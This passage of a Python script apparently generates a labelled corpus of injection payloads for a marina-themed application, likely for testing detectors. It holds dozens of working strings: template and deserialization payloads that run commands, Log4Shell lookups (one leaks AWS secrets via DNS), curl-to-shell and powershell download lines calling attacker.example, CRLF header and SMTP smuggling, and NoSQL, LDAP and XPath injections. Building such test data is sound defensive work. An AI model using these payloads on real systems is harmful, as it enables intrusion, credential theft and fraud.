    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("ssti-dotjs", "{{= global.process.mainModule.require('child_process').execSync('id') }}"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-jinja2-harbormaster-notice", "NOTICE: dock E closed {{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("el-java", "${pageContext.request.getSession().getServletContext()}"),
    ("el-java-runtime", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("spel", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
    ("spel-dollar", "${T(java.lang.System).getenv()}"),
    ("spel-processbuilder", "#{new java.lang.ProcessBuilder({'sh','-c','id'}).start()}"),
    ("ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl-struts", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("mvel", "@{Runtime.getRuntime().exec('id')}"),
    ("eval-python", "__import__('os').system('id')"),
    ("eval-python-note", "32*118+__import__('subprocess').getoutput('cat /etc/passwd')"),
    ("eval-node", "require('child_process').execSync('id').toString()"),
    ("eval-node-rate-formula", "LOA*3.5+process.mainModule.require('child_process').execSync('curl attacker.example')"),
    ("eval-php", "phpinfo();"),
    ("eval-php-system", "'; system($_GET['c']); //"),
    ("eval-ruby", "Kernel.exec('id')"),
    ("eval-perl", "system('id')"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4shell-note", "Boat name: ${jndi:rmi://203.0.113.61/Exploit}"),
    ("log4shell-nested-lower", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("log4shell-env-default", "${${env:NOTHING:-j}ndi:${env:NOTHING:-l}dap://198.51.100.4/z}"),
    ("log4shell-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell-colon-minus", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/p}"),
    ("prototype-pollution-json", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("prototype-pollution-constructor", "{\"constructor\":{\"prototype\":{\"role\":\"harbormaster\"}}}"),
    ("prototype-pollution-query", "__proto__[isAdmin]=true"),
    ("prototype-pollution-rce", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("csv-formula-cmd", "=cmd|' /C calc'!A0"),
    ("csv-formula-hyperlink", "=HYPERLINK(\"http://attacker.example/?d=\"&A2&B2,\"View invoice\")"),
    ("csv-formula-plus", "+cmd|'/c powershell IEX(wget attacker.example/p)'!A1"),
    ("csv-formula-at", "@SUM(1+1)*cmd|' /C notepad'!A0"),
    ("csv-formula-webservice", "=WEBSERVICE(\"http://attacker.example/x?\"&A1)"),
    ("csv-dde-minus", "-2+3+cmd|' /C calc'!E1"),
    ("csv-formula-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A2),\"//a\")"),
    ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE slip [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><slip><note>&xxe;</note></slip>"),
    ("xxe-ssrf", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><r>&m;</r>"),
    ("xxe-parameter-oob", "<!DOCTYPE x [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><x/>"),
    ("xinclude", "<tide xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></tide>"),
    ("xxe-svg-upload", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>"),
    ("yaml-pyyaml", "!!python/object/apply:os.system ['id']"),
    ("yaml-pyyaml-subprocess", "settings: !!python/object/apply:subprocess.check_output [['curl','attacker.example']]"),
    ("yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("yaml-ruby", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/hash:Gem::Requirement\nrequirements: !ruby/object:Gem::Package::TarReader\n  io: !ruby/object:Net::BufferedIO\n    io: !ruby/object:Gem::Package::TarReader::Entry\n      read: 0\n      header: \"abc\"\n    debug_output: !ruby/object:Net::WriteAdapter\n      socket: !ruby/object:Gem::RequestSet\n        sets: !ruby/object:Net::WriteAdapter\n          socket: !ruby/module 'Kernel'\n          method_id: :system\n        git_set: id\n      method_id: :resolve"),
    ("pickle-base64", "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("pickle-protocol0", "cos\nsystem\n(S'id'\ntR."),
    ("java-jackson-default-typing", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/Obj\",\"autoCommit\":true}]"),
    ("java-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.61:1099/Exploit\",\"autoCommit\":true}"),
    ("dotnet-typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("java-xstream-eventhandler", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>sh</string><string>-c</string><string>curl attacker.example/x|sh</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("php-unserialize", "O:8:\"SlipNote\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("php-unserialize-gadget", "a:2:{i:0;O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\x00*\x00socket\";O:29:\"Monolog\\Handler\\BufferHandler\":1:{s:10:\"\x00*\x00handler\";N;}}i:1;s:2:\"id\";}"),
]

# ---------------------------------------------------------------------------
# NoSQL injection
# ---------------------------------------------------------------------------
NOSQLI = [
    ("mongo-ne-login", "{\"username\":\"harbormaster\",\"password\":{\"$ne\":null}}"),
    ("mongo-gt-empty", "{\"$gt\":\"\"}"),
    ("mongo-regex-enum", "{\"$regex\":\"^a\"}"),
    ("mongo-where-sleep", "{\"$where\":\"sleep(5000) || true\"}"),
    ("mongo-where-string", "' || this.role == 'admin' || '"),
    ("mongo-where-js-breakout", "B-14'; return true; var x='"),
    ("mongo-query-param-ne", "password[$ne]=x"),
    ("mongo-query-param-gt", "slip[$gt]="),
    ("mongo-query-param-regex", "owner[$regex]=.*&owner[$options]=i"),
    ("mongo-in-enum", "{\"$in\":[\"admin\",\"harbormaster\",\"root\"]}"),
    ("mongo-nin", "{\"role\":{\"$nin\":[\"tenant\"]}}"),
    ("mongo-or-bypass", "{\"$or\":[{\"slip\":\"B-14\"},{\"1\":{\"$exists\":false}}]}"),
    ("mongo-expr", "{\"$expr\":{\"$eq\":[1,1]}}"),
    ("mongo-function-where", "{\"$where\":\"function(){return this.balance > 0 && (new Date()).getTime()%2==0 || true}\"}"),
    ("mongo-aggregation-lookup", "[{\"$lookup\":{\"from\":\"staff_users\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"leak\"}}]"),
    ("mongo-js-regex-timing", "{\"$where\":\"this.password.match(/^a.*/) && sleep(3000)\"}"),
    ("mongo-mapreduce-function", "{\"$function\":{\"body\":\"function(){ while(true){} }\",\"args\":[],\"lang\":\"js\"}}"),
    ("mongo-operator-in-note", "Slip note {\"$ne\": \"\"} "),
    ("mongo-type-confusion", "{\"slip\":{\"$type\":2},\"owner\":{\"$exists\":true}}"),
    ("couchdb-selector", "{\"selector\":{\"_id\":{\"$gt\":null}}}"),
    ("elasticsearch-script", "{\"script\":{\"source\":\"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}"),
    ("elasticsearch-query-string", "owner:* OR _exists_:password"),
    ("redis-eval-injection", "B-14\r\nEVAL \"return redis.call('config','get','*')\" 0\r\n"),
    ("cassandra-cql", "B-14' ALLOW FILTERING; SELECT * FROM system_auth.roles; --"),
    ("neo4j-cypher", "B-14' OR 1=1 WITH 1 AS a CALL db.labels() YIELD label LOAD CSV FROM 'http://attacker.example/'+label AS l RETURN 0 //"),
    ("mongo-query-param-where", "$where=1==1"),
    ("mongo-regex-dos", "{\"$regex\":\"(a+)+$\"}"),
]

# ---------------------------------------------------------------------------
# CRLF: log forging, header injection, response splitting, mail headers
# ---------------------------------------------------------------------------
CRLF = [
    ("log-forging-raw", "Pump-out D-9 18 gal\n2024-10-14 09:12:03 INFO harbormaster login success user=admin ip=10.0.0.2"),
    ("log-forging-crlf", "Fuel 40 gal\r\n[2024-10-14T09:15:00Z] AUDIT refund approved amount=9999.00 by=dana"),
    ("log-forging-encoded+urlencode", "B-14%0d%0a2024-10-14 INFO payment received INV-24-1019 amount=4720.00"),
    ("log-forging-json-escape", "kayak\\n{\"level\":\"info\",\"msg\":\"user promoted\",\"user\":\"guest\",\"role\":\"admin\"}"),
    ("log-forging-ansi", "Sea Biscuit\x1b[2J\x1b[1;1HAll checks passed"),
    ("log-forging-unicode-linesep", "Osprey\u20282024-10-14 INFO login ok user=harbormaster"),
    ("header-injection-set-cookie", "en-US\r\nSet-Cookie: session=attacker-fixed-value; Path=/"),
    ("header-injection-encoded+urlencode", "B-14%0d%0aSet-Cookie:%20admin=1"),
    ("header-injection-location", "/slips%0d%0aLocation:%20https://attacker.example/login"),
    ("response-splitting", "/invoice%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("response-splitting-raw", "tide\r\n\r\n<html><script>alert(document.cookie)</script></html>"),
    ("double-url-encoded+doubleurlencode", "B-14%250d%250aX-Injected:%2520yes"),
    ("lf-only", "D-11%0aX-Forwarded-Host:%20attacker.example"),
    ("cr-only", "D-11%0dRefresh:%200;url=https://attacker.example/"),
    ("utf8-overlong-newline", "slip%c4%8d%c4%8aSet-Cookie:%20x=1"),
    ("unicode-crlf-nodejs", "/slips\u560d\u560aSet-Cookie: pwn=1"),
    ("header-injection-cors", "harborview-marina.example\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("header-injection-xss-protection", "fr\r\nX-XSS-Protection: 0\r\nContent-Type: text/html"),
    ("mail-bcc-injection", "guest@harborview-mail.example\r\nBcc: list@attacker.example"),
    ("mail-cc-encoded+urlencode", "sam@sailmail.example%0d%0aCc:%20everyone@attacker.example"),
    ("mail-subject-injection", "Slip booking confirmation\r\nBcc: spam1@attacker.example, spam2@attacker.example\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>Pay here</a>"),
    ("mail-from-injection", "Dana <dana@harborview-marina.example>\nReply-To: billing@attacker.example"),
    ("mail-lf-to", "harbor@example.org\nTo: victim1@example.net"),
    ("mail-body-smtp-smuggling", "Thanks!\r\n.\r\nMAIL FROM:<ceo@harborview-marina.example>\r\nRCPT TO:<accounts@harborview-marina.example>\r\nDATA\r\nPlease wire $9,000.\r\n.\r\n"),
    ("redis-protocol-injection", "B-14\r\nSET admin_token attacker\r\n"),
    ("memcached-injection", "slip_B14\r\nset gatecode 0 0 4\r\n0000\r\n"),
    ("smtp-command-injection", "guest@sailmail.example>\r\nRCPT TO:<all-tenants@harborview-marina.example"),
    ("csv-log-injection-crlf", "Fuel 40 gal\r\n=cmd|' /C calc'!A0"),
    ("syslog-forging", "pump-out done\n<34>Oct 14 09:20:00 marina-gw sshd[411]: Accepted password for root from 203.0.113.70"),
    ("http-request-smuggle-header", "x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"),
]

# ---------------------------------------------------------------------------
# LDAP / XPath injection
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("ldap-wildcard-null", "*))%00"),
    ("ldap-or-bypass", "harbormaster)(|(uid=*"),
    ("ldap-always-true", "*)(uid=*))(|(uid=*"),
    ("ldap-and-breakout", "dana)(&)"),
    ("ldap-password-bypass", "admin)(!(userPassword=x))"),
    ("ldap-attr-enum", "*)(userPassword=a*"),
    ("ldap-objectclass", "x)(objectClass=*"),
    ("ldap-null-terminator", "admin)(&)%00"),
    ("ldap-encoded+urlencode", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("ldap-directory-search-note", "Kenji*)(|(memberOf=cn=admins,ou=groups,dc=marina,dc=local)"),
    ("xpath-or-true", "' or '1'='1"),
    ("xpath-or-true-slip", "B-14' or 1=1 or 'a'='a"),
    ("xpath-union-nodes", "x'] | //user/password | //slip['"),
    ("xpath-count-blind", "' or count(/*)=1 or '"),
    ("xpath-substring-blind", "' or substring(//user[1]/password,1,1)='a' or '"),
    ("xpath-name-enum", "' or name(/*[1])='marina' or '"),
    ("xpath-string-length", "dana' and string-length(//user[name='dana']/password)>6 and '1'='1"),
    ("xpath-doc-function", "' or doc('http://attacker.example/x.xml') or '"),
    ("xpath-numeric", "1 or 1=1"),
    ("xquery-injection", "B-14\"] return doc(\"/etc/passwd\") (: "),
]

# ---------------------------------------------------------------------------
# Small computed part: hand-written marina prefixes joined to hand-written
# payloads (hidden framing), plus one encoding applied to hand-written payloads.
# ---------------------------------------------------------------------------
PREFIXES = [
    "Slip E-5 note: ",
    "Fuel receipt #F-100417 ",
    "Haul-out Oct 17, row C — ",
    "Guest booking GB-20502: ",
    "Pump-out log 07/22 | C-4 | ",
    "Maintenance M-2044: ",
    "Boat name: ",
    "Tide note 0800: ",
]

JOINED = {
    "sqli": [
        ("joined-boolean", "x' OR '7'='7"),
        ("joined-union-select", "' UNION SELECT login,pass FROM staff_users-- -"),
        ("joined-mysql-sleep", "' AND SLEEP(5)#"),
        ("joined-mssql-waitfor", "'; WAITFOR DELAY '0:0:6'--"),
    ],
    "xss": [
        ("joined-img-onerror", "<img src=x onerror=alert(document.cookie)>"),
        ("joined-svg-onload", "<svg onload=alert(1)>"),
    ],
    "cmdi": [
        ("joined-semicolon", "; id"),
        ("joined-subshell", "$(curl attacker.example/s|sh)"),
    ],
    "code": [
        ("joined-jinja2", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("joined-log4shell", "${jndi:ldap://attacker.example/m}"),
    ],
}

# How many joined values per category (templated, counted as computed).
JOINED_COUNT = {"sqli": 7, "xss": 2, "cmdi": 3, "code": 2}

# One encoding applied to a hand-written payload.
def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def html_dec_entities(s):
    return "".join("&#%d;" % ord(c) for c in s)


ENCODED = [
    ("traversal", "percent-all+urlencode", urlencode_all, "../../../etc/passwd"),
    ("xss", "entities-in-attr+htmlentities", html_dec_entities, "javascript:alert(1)"),
    ("ssrf", "percent-host+urlencode", lambda s: "http://" + urlencode_all(s) + "/admin/", "127.0.0.1"),
    ("sqli", "percent-all+urlencode", urlencode_all, "' OR 1=1-- "),
    ("cmdi", "percent-all+urlencode", urlencode_all, ";cat /etc/passwd"),
    ("crlf", "percent-all+urlencode", urlencode_all, "\r\nSet-Cookie: a=1"),
]

LITERALS = [
    ("sqli", SQLI),
    ("xss", XSS),
    ("cmdi", CMDI),
    ("traversal", TRAVERSAL),
    ("ssrf", SSRF),
    ("code", CODE),
    ("nosqli", NOSQLI),
    ("crlf", CRLF),
    ("ldap-xpath", LDAP_XPATH),
]


def build():
    rows = []  # (category, class, value, computed)
    for cat, items in LITERALS:
        for cls, val in items:
            rows.append((cat, cls, val, False))
        for ecat, cls, fn, payload in ENCODED:
            if ecat == cat:
                rows.append((cat, cls, fn(payload), True))
        if cat in JOINED:
            seen = set()
            pool = JOINED[cat]
            while len(seen) < JOINED_COUNT[cat]:
                pre = rng.choice(PREFIXES)
                cls, payload = rng.choice(pool)
                v = pre + payload
                if v in seen:
                    continue
                seen.add(v)
                rows.append((cat, cls, v, True))
    return rows


def main():
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    rows = build()
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v, _) in enumerate(rows, 1):
            f.write(json.dumps({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls,
                                "label": "attack", "value": v}, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
